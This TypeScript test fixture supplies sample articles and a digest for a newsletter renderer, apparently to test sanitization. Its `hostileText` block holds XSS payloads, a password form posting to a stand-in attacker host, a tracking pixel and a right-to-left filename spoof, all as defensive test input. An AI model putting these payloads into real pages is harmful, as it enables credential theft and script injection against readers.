import type { ArticleBody } from '../../src/content/article.ts';
import { digestOf } from './made-up-digest.ts';

export const markdown = (text: string): ArticleBody => ({ format: 'markdown', text, line: 12 });
export const html = (text: string): ArticleBody => ({ format: 'html', text, line: 12 });

/** Everything a theme has to set in a text. */
export const longRead = markdown(`
The operator of the night ferry has **chartered a second ship**, and *nobody at the quay* is surprised. Tickets are sold
[at the harbour office](/tickets?line=6&from=quay "Where to buy") and by [post](mailto:tickets@harbour.example).

# What changes

- The first crossing leaves at \`21:40\`, the last at 23:10
- Bicycles travel
  1. free in the hold,
  2. for two coins on deck
- ~~Dogs~~ travel as before

> The sea does not keep a timetable, and for eleven years neither did we.
>
> It is kept now.

### How the fare is reckoned

\`\`\`js
const fare = (km, night) => Math.ceil(km / 10) * (night ? 3 : 2);
  // two blanks, and a word too long for a phone: donaudampfschifffahrtsgesellschaftskapitaensmuetze
\`\`\`

| Crossing | Leaves | Takes |
|---|---|---|
| Outer islands | 21:40 | 6 h 10 min |
| Skerries | 23:10 | 2 h |

![The new ship at her berth](images/ship.jpg "At the quay")

## And the mail

Letters go with the same ship<br>every night but one.

---

| Month | Outer | Inner | Skerries | Lights | Calm |
|---|---|---|---|---|---|
| May | 31 | 30 | 12 | 4 | 19 |
| June | 30 | 30 | 20 | 2 | 25 |

H<sub>2</sub>O, 10<sup>6</sup> and \`<b>\` stand as they are: Q&A < 5 & "so".
`);

const arabic = markdown(`
عادت العبارة الليلية إلى الجزر بعد **أحد عشر عامًا**، وبيعت تذاكر [الرحلة الأولى](https://harbour.example/first) كلها.

## ما الذي يتغير

- تغادر الرحلة الأولى في 21:40
- تسافر الدراجات مجانًا

> البحر لا يحفظ المواعيد.

| الرحلة | المغادرة |
|---|---|
| الجزر البعيدة | 21:40 |

English words stand on their own side, *too*.
`);

/** What an enemy, or a careless program, writes. */
export const hostileText = html(`
<script>alert(1)</script><style>body{display:none}</style>
<p onclick="steal()" style="position:fixed;color:#fff;background:url(https://evil.example/x)">Words <b>bold</b> and <a href="javascript:alert(1)">a trap</a>,
<a href="data:text/html,<script>1</script>">another</a>, <a href=" https://good.example/?a=1&b=2 ">a good one</a> and <a href="https://good.example/here">here</a>.</p>
<iframe src="https://www.youtube.com/embed/abcdefghijk" title="The crossing, filmed"></iframe>
<img src="data:image/png;base64,AAAA" alt="Inside"><img src="https://count.example/p.gif" width="1" height="1">
<form action="https://evil.example/"><input name="password"><button>Send</button> Words in a form</form>
<div style="display:none">zzSLOT-unsubscribe-zzzzzzzzzzzzzzzzzzzzz hidden</div>
<p>zz<b>SLOT-</b>unsubscribe \u202egnp.exe\u202c \uFDD0body\uFDD1 undefined NaN [object Object] &amp;amp; {{ liquid }} <mj-text>mj</mj-text></p>
<table><tr><td>A layout</td><td><ul><li>with a list</li></ul></td></tr></table>
<svg><script>alert(2)</script><text>drawn</text></svg><math><mi>x</mi></math>
<h1>Read more</h1><h4>Four levels on</h4><p>Unclosed <i>and <u>crossed</i> over</u><p>again</div></td>
<!-- <b>comment</b> --><courant-piece name="excerpt">piece</courant-piece>
`);

/** Own posts sent whole beside digests of others, and beside what must not cost them anything. */
export const wholeDigest = digestOf({
  'Our own': [
    { id: 'night-ferry', title: 'Night ferry returns after eleven years', excerpt: 'Bookings opened at six.', body: longRead, points: 180 },
    {
      id: 'arabic',
      title: 'العبارة الليلية تعود',
      excerpt: 'بعد أحد عشر عامًا.',
      outlet: 'جريدة الميناء',
      body: arabic,
      others: ['Coast Wire'],
      points: 120,
    },
    { id: 'hostile', title: 'A text nobody should trust', excerpt: null, body: hostileText, update: true, points: 90 },
  ],
  Elsewhere: [
    { id: 'tram-six', title: 'Tram line six opens a month early', excerpt: 'The last rail was laid on Thursday.', outlet: 'Metro Gazette' },
    { id: 'short-post', title: 'A word from us', excerpt: 'A word.', body: markdown('One paragraph, and that is all.'), points: 60 },
    { id: 'bonds', title: 'A quiet week for bonds', excerpt: 'One auction, two surprises.', outlet: 'The Ledger', points: 50 },
  ],
});
